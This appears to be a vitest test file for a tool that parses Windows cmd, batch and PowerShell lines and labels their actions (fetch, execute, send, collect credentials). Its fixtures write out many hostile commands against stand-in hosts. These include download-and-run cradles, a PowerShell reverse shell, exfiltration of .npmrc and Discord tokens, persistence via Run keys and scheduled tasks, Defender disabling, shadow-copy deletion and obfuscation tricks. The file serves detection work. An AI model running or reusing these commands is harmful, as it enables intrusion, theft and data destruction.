import { describe, expect, it } from 'vitest'
import { FakeDesk, placed } from './fake-desk.ts'

const FILES = { 'payload.txt': 'Y3VybCBodHRwczovL2EuZXhhbXBsZXxzaA==', 'package.json': '{}', Makefile: 'all:\n\tcurl https://a.example/m | sh\n' }

function linesOf(line: string): string[] {
  const desk = new FakeDesk(FILES, { go: 'curl https://a.example/go | sh' })
  desk.shell(line, placed(line))
  return desk.lines
}

describe('Windows', () => {
  it.each<[string, string[]]>([
    [String.raw`bitsadmin /transfer j https://a.example/x.exe %TEMP%\x.exe && %TEMP%\x.exe`, ['fetch bitsadmin https://a.example/x.exe', String.raw`write<fetched> bitsadmin %TEMP%\x.exe`, String.raw`spawn<fetched> x %TEMP%\x.exe`]],
    [String.raw`certutil -urlcache -split -f https://a.example/x.exe %TEMP%\x.exe & start %TEMP%\x.exe`, ['fetch certutil https://a.example/x.exe', String.raw`write<fetched> certutil %TEMP%\x.exe`, String.raw`spawn<fetched> x %TEMP%\x.exe`]],
    ['cmd /c "curl https://a.example/x.bat -o x.bat && x.bat"', ['execute cmd curl https://a.example/x.bat -o x.bat && x.bat', 'fetch curl https://a.example/x.bat', 'write<fetched> curl x.bat', 'spawn<fetched> x x.bat']],
    ['cmd /c p^o^w^e^r^s^h^e^l^l -c "iwr https://a.example | iex"', ['execute cmd powershell -c iwr https://a.example | iex', 'execute powershell iwr https://a.example | iex', 'fetch iwr https://a.example', 'execute<fetched> iex …']],
    [String.raw`copy x.exe "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.exe"`, [String.raw`write copy %APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.exe`]],
    [String.raw`curl.exe -s https://a.example/x -o %APPDATA%\x.exe && %APPDATA%\x.exe`, ['fetch curl https://a.example/x', String.raw`write<fetched> curl %APPDATA%\x.exe`, String.raw`spawn<fetched> x %APPDATA%\x.exe`]],
    [String.raw`del /f /s /q C:\Users\*`, [String.raw`delete del C:\Users\*`]],
    ['echo %USERNAME% %COMPUTERNAME% | curl -d @- https://a.example', ['collect<host> $USERNAME USERNAME', 'collect<host> $COMPUTERNAME COMPUTERNAME', 'fetch curl https://a.example', 'send<host> curl https://a.example']],
    ['echo IEX(New-Object Net.WebClient).DownloadString("https://a.example") | powershell -noprofile -', ['execute powershell powershell -noprofile -', 'fetch DownloadString https://a.example', 'execute<fetched> iex …']],
    [`for /f "tokens=*" %i in ('whoami') do curl https://a.example/%i`, ['collect<host> whoami whoami', 'fetch curl https://a.example/…', 'send<host> curl https://a.example/…']],
    ['format c: /y', ['spawn format format c: /y', 'delete format c:']],
    [String.raw`if exist C:\x.exe (echo yes) else (curl -o %TEMP%\y.exe https://a.example/y & start "" /b %TEMP%\y.exe)`, ['fetch curl https://a.example/y', String.raw`write<fetched> curl %TEMP%\y.exe`, String.raw`spawn<fetched> y %TEMP%\y.exe`]],
    ['mshta https://a.example/x.hta', ['fetch mshta https://a.example/x.hta', 'execute<fetched> mshta https://a.example/x.hta']],
    ['msiexec /q /i https://a.example/x.msi', ['fetch msiexec https://a.example/x.msi', 'execute<fetched> msiexec https://a.example/x.msi']],
    ['net user hacker pass /add', ['spawn net net user hacker pass /add']],
    ['powershell "iwr https://a.example/x.ps1 | iex"', ['fetch iwr https://a.example/x.ps1', 'execute<fetched> iex …']],
    [String.raw`powershell -Command "& {Invoke-WebRequest -Uri 'https://a.example/x.exe' -OutFile $env:TEMP\x.exe; Start-Process $env:TEMP\x.exe -WindowStyle Hidden}"`, ['fetch invoke-webrequest https://a.example/x.exe', String.raw`write<fetched> invoke-webrequest %TEMP%\x.exe`, String.raw`spawn start-process %TEMP%\x.exe -WindowStyle Hidden`, String.raw`spawn<fetched> x %TEMP%\x.exe`]],
    [`powershell -NoP -NonI -W Hidden -Exec Bypass -Command "&('I'+'EX') (iwr 'https://a.example')"`, ['fetch iwr https://a.example', 'execute<fetched> iex …']],
    [`powershell -c "$a='hxxps://a.example' -replace 'hxxps','https'; [scriptblock]::Create((iwr $a).Content).Invoke()"`, ['fetch iwr https://a.example', 'execute<fetched> [ScriptBlock]::Create …', 'execute<fetched> Invoke …']],
    [`powershell -c "$b=[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('d2hvYW1p')); Invoke-Expression $b"`, ['decode [Convert]::FromBase64String whoami', 'execute<decoded> invoke-expression whoami', 'collect<host> whoami whoami']],
    [`powershell -c "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);$sb=(iex $d 2>&1|Out-String)}"`, ['connect system.net.sockets.tcpclient 192.0.2.1:4444', 'execute<fetched> iex …']],
    [`powershell -c "$s='whoami'.ToCharArray(); [array]::Reverse($s); [array]::Reverse($s); iex (-join $s)"`, ['execute iex whoami', 'collect<host> whoami whoami']],
    [`powershell -c "$wc=New-Object Net.WebClient; $wc.UploadString('https://a.example', [Environment]::UserName)"`, ['collect<host> [Environment] username', 'fetch UploadString https://a.example', 'send<host> UploadString https://a.example']],
    [`powershell -c "$x = 'imaohw'[-1..-6] -join ''; & $x"`, ['collect<host> whoami whoami']],
    [`powershell -c "& ([scriptblock]::Create([char]119+[char]104+'oami'))"`, ['execute [ScriptBlock]::Create whoami', 'collect<host> whoami whoami', 'spawn … …']],
    [String.raw`powershell -c "(New-Object System.Net.WebClient).DownloadFile('https://a.example/x.exe','C:\Users\Public\x.exe'); Start-Process 'C:\Users\Public\x.exe'"`, ['fetch DownloadFile https://a.example/x.exe', String.raw`write<fetched> DownloadFile C:\Users\Public\x.exe`, String.raw`spawn<fetched> x C:\Users\Public\x.exe`]],
    ['powershell -c "-join((105,119,114)|%{[char]$_})|iex"', ['execute iex iwr', 'fetch iwr …']],
    [String.raw`powershell -c "Add-MpPreference -ExclusionPath C:\\; Set-MpPreference -DisableRealtimeMonitoring $true"`, [String.raw`spawn add-mppreference Add-MpPreference -ExclusionPath C:\\`, 'spawn set-mppreference Set-MpPreference -DisableRealtimeMonitoring …']],
    ['powershell -c "Get-Clipboard | Out-File x.txt; irm https://a.example -Method Post -InFile x.txt"', ['collect<clipboard> get-clipboard Get-Clipboard', 'write<clipboard> out-file x.txt', 'fetch irm https://a.example', 'send<clipboard> irm https://a.example']],
    ["powershell -c \"I`E`X ('cu'+'rl'); $a='ht'+'tps://a.exa'+'mple'; iex (irm $a)\"", ['execute iex curl', 'fetch curl null', 'fetch irm https://a.example', 'execute<fetched> iex …']],
    ['powershell -c "Invoke-WebRequest -UseBasicParsing -Uri https://a.example/x.zip -OutFile x.zip"', ['fetch invoke-webrequest https://a.example/x.zip', 'write<fetched> invoke-webrequest x.zip']],
    [String.raw`powershell -c "Invoke-WebRequest -Uri https://a.example -Method POST -Body (Get-Content $env:USERPROFILE\.npmrc)"`, [String.raw`collect<credentials> powershell %USERPROFILE%\.npmrc`, 'fetch invoke-webrequest https://a.example', 'send<credentials> invoke-webrequest https://a.example']],
    [String.raw`powershell -c "New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name x -Value 'C:\x.exe'"`, [String.raw`write new-itemproperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run`, String.raw`spawn x C:\x.exe`]],
    [`powershell -c "[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://a.example/x.dll'))"`, ['fetch DownloadData https://a.example/x.dll', 'execute<fetched> [Assembly]::Load …']],
    [`powershell -c "function f($u){ iex (irm $u) }; f 'https://a.example'"`, ['fetch irm https://a.example', 'execute<fetched> iex …']],
    [`powershell -c "iex ('wXhoXami'.Replace('X',''))"`, ['execute iex whoami', 'collect<host> whoami whoami']],
    [`powershell -c "iex ('{1}{0}' -f 'mi','whoa')"`, ['execute iex whoami', 'collect<host> whoami whoami']],
    [`powershell -c "iex ((('e','x','a') -join '') + [char]104)"`, ['execute iex exah', 'spawn exah exah']],
    ['powershell -c "iwr https://a.example/$env:USERNAME"', ['collect<host> [Environment] username', 'fetch iwr https://a.example/…', 'send<host> iwr https://a.example/…']],
    [String.raw`powershell -c "iwr https://a.example/x -OutFile $env:TEMP\x.exe; & $env:TEMP\x.exe"`, ['fetch iwr https://a.example/x', String.raw`write<fetched> iwr %TEMP%\x.exe`, String.raw`spawn<fetched> x %TEMP%\x.exe`]],
    ['powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYQAuAGUAeABhAG0AcABsAGUAJwApAA==', [`decode powershell -EncodedCommand IEX (New-Object Net.WebClient).DownloadString('http://a.example')`, `execute<decoded> powershell IEX (New-Object Net.WebClient).DownloadString('http://a.example')`, 'fetch DownloadString http://a.example', 'execute<fetched> iex …']],
    [`powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"`, ['fetch DownloadString http://203.0.113.5/a.ps1', 'execute<fetched> iex …']],
    [String.raw`powershell Start-BitsTransfer -Source https://a.example/x.exe -Destination x.exe; .\x.exe`, ['fetch start-bitstransfer https://a.example/x.exe', 'write<fetched> start-bitstransfer x.exe', String.raw`spawn<fetched> x .\x.exe`]],
    [String.raw`powershell.exe -ExecutionPolicy Bypass -File .\x.ps1`, [String.raw`spawn powershell powershell.exe -ExecutionPolicy Bypass -File .\x.ps1`]],
    [String.raw`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d "C:\x.exe" /f`, [String.raw`spawn reg reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d C:\x.exe /f`, String.raw`write reg HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, String.raw`spawn x C:\x.exe`]],
    ['regsvr32 /s /n /u /i:https://a.example/x.sct scrobj.dll', ['fetch regsvr32 https://a.example/x.sct', 'execute<fetched> regsvr32 https://a.example/x.sct']],
    [String.raw`rundll32 javascript:"\..\mshtml,RunHTMLApplication"`, [String.raw`spawn rundll32 rundll32 javascript:\..\mshtml,RunHTMLApplication`, String.raw`execute rundll32 javascript:\..\mshtml,RunHTMLApplication`]],
    [String.raw`sc create evil binPath= "C:\x.exe"`, [String.raw`spawn sc sc create evil binPath= C:\x.exe`, String.raw`write sc HKLM\SYSTEM\CurrentControlSet\Services\evil`, String.raw`spawn x C:\x.exe`]],
    ['schtasks /create /tn Upd /tr "powershell -c iwr https://a.example|iex" /sc onlogon', ['spawn schtasks schtasks /create /tn Upd /tr powershell -c iwr https://a.example|iex /sc onlogon', String.raw`write schtasks C:\Windows\System32\Tasks\Upd`, 'execute powershell iwr https://a.example', 'fetch iwr https://a.example', 'execute<fetched> iex …']],
    ['set a=cur&& set b=l&& call %a%%b% https://a.example/x -o x.exe && x.exe', ['fetch curl https://a.example/x', 'write<fetched> curl x.exe', 'spawn<fetched> x x.exe']],
    ['set x=abcurlz&& %x:~2,4% https://a.example -o q.bat & q.bat', ['fetch curl https://a.example', 'write<fetched> curl q.bat', 'spawn<fetched> q q.bat']],
    ['start /b powershell -c "irm https://a.example | iex"', ['fetch irm https://a.example', 'execute<fetched> iex …']],
    ['vssadmin delete shadows /all /quiet', ['spawn vssadmin vssadmin delete shadows /all /quiet']],
    ['wmic process call create "calc.exe"', ['spawn wmic wmic process call create calc.exe']],
  ])('%s', (line, expected) => expect(linesOf(line)).toEqual(expect.arrayContaining(expected)))
})

const script = (path: string, rows: readonly string[]): string[] => {
  const text = rows.join('\r\n')
  const desk = new FakeDesk()
  desk.shell(text, { source: { path, text, anchor: null }, from: 0, to: text.length })
  return desk.lines
}

describe('scripts of Windows', () => {
  it.each<[string, string[], string[]]>([
    ['fetches and starts', ['@echo off', 'rem curl https://no.example', ':: curl https://no.example', 'set "U=https://a.example/x.exe"', 'curl -s -o "%TEMP%\\x.exe" %U% >nul 2>&1', 'if exist "%TEMP%\\x.exe" (', '  start "" /b "%TEMP%\\x.exe"', ') else goto end', ':end', 'exit /b 0'],
      ['fetch curl https://a.example/x.exe', 'write<fetched> curl %TEMP%\\x.exe', 'spawn<fetched> x %TEMP%\\x.exe']],
    ['carets', ['c^u^r^l https://a.example/x.bat -o x.bat', 'c^all x.bat'], ['fetch curl https://a.example/x.bat', 'write<fetched> curl x.bat', 'spawn<fetched> x x.bat']],
    ['pieces of variables', ['set k=zlrucz', 'set a=%k:~4,1%%k:~3,1%%k:~2,1%%k:~1,1%', '%a% https://a.example -o a.exe', 'a.exe'], ['fetch curl https://a.example', 'write<fetched> curl a.exe', 'spawn<fetched> a a.exe']],
    ['replaced text', ['set k=XcXuXrXlX', '%k:X=% https://a.example -o a.exe', 'a.exe'], ['fetch curl https://a.example', 'write<fetched> curl a.exe', 'spawn<fetched> a a.exe']],
    ['late variables', ['setlocal enabledelayedexpansion', 'set u=https://a.example', 'powershell -c "iwr !u! | iex"'], ['execute powershell iwr https://a.example | iex', 'fetch iwr https://a.example', 'execute<fetched> iex …']],
    ['output of a command', ["for /f \"delims=\" %%i in ('hostname') do set h=%%i", 'curl https://a.example/%h%'], ['collect<host> hostname hostname', 'fetch curl https://a.example/…', 'send<host> curl https://a.example/…']],
    ['a script that is written first', ['echo iwr https://a.example ^| iex > %TEMP%\\a.ps1', 'powershell -ep bypass -f %TEMP%\\a.ps1'], ['spawn powershell powershell -ep bypass -f %TEMP%\\a.ps1', 'fetch iwr https://a.example', 'execute<fetched> iex …']],
  ])('batch: %s', (_name, rows, expected) => expect(script('a.bat', rows)).toEqual(expected))

  it.each<[string, string[], string[]]>([
    ['parameters', ['function Get-It {', '  param([string]$Url, $Path)', '  Invoke-WebRequest -Uri $Url -OutFile $Path', '}', 'Get-It "https://a.example/x" "$env:TEMP\\x.exe"', '& "$env:TEMP\\x.exe"'], ['fetch invoke-webrequest https://a.example/x', 'write<fetched> invoke-webrequest %TEMP%\\x.exe', 'spawn<fetched> x %TEMP%\\x.exe']],
    ['comments', ['<# iwr https://no.example | iex #>', '# iwr https://no.example | iex', "Write-Host 'iwr https://no.example | iex'"], []],
    ['here-strings', ["$c = @'", 'iwr https://a.example | iex', "'@", 'iex $c'], ['execute iex iwr https://a.example | iex', 'fetch iwr https://a.example', 'execute<fetched> iex …']],
    ['characters', ["$n = 105,119,114 | ForEach-Object { [char]$_ }", "$c = ($n -join '') + ' https://a.example'", 'Invoke-Expression $c'], ['execute invoke-expression iwr https://a.example', 'fetch iwr https://a.example']],
    ['formats and replacing', ["$x = '{2}{0}{1}' -f 'w','r','i'", "$u = 'hXXps://a.example'.Replace('XX','tt')", '& $x $u | iex'], ['fetch iwr https://a.example', 'execute<fetched> iex …']],
    ['scheduled tasks', ["$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -c iex(irm https://a.example)'", 'Register-ScheduledTask -TaskName Upd -Action $a'], ['execute powershell iex(irm https://a.example)', 'fetch irm https://a.example', 'execute<fetched> iex …', 'write<fetched> register-scheduledtask C:\\Windows\\System32\\Tasks\\Upd']],
    ['files that leave', ['$d = [IO.File]::ReadAllText("$env:APPDATA\\discord\\Local Storage\\leveldb\\1.ldb")', 'Invoke-RestMethod https://a.example -Method Post -Body $d'], ['collect<messenger> [IO.File]::ReadAllText %APPDATA%\\discord\\Local Storage\\leveldb\\1.ldb', 'fetch invoke-restmethod https://a.example', 'send<messenger> invoke-restmethod https://a.example']],
    ['names that leave', ['Resolve-DnsName "$env:USERNAME.x.example"'], ['collect<host> [Environment] username', 'resolve resolve-dnsname ….x.example', 'send<host> resolve-dnsname ….x.example']],
    ['the clipboard', ['Add-Type -AssemblyName System.Windows.Forms', '[System.Windows.Forms.Clipboard]::GetText() | Out-File c.txt'], ['spawn add-type Add-Type -AssemblyName System.Windows.Forms', 'collect<clipboard> [System.Windows.Forms.Clipboard]::GetText GetText', 'write<clipboard> out-file c.txt']],
  ])('PowerShell: %s', (_name, rows, expected) => expect(script('a.ps1', rows)).toEqual(expected))
})
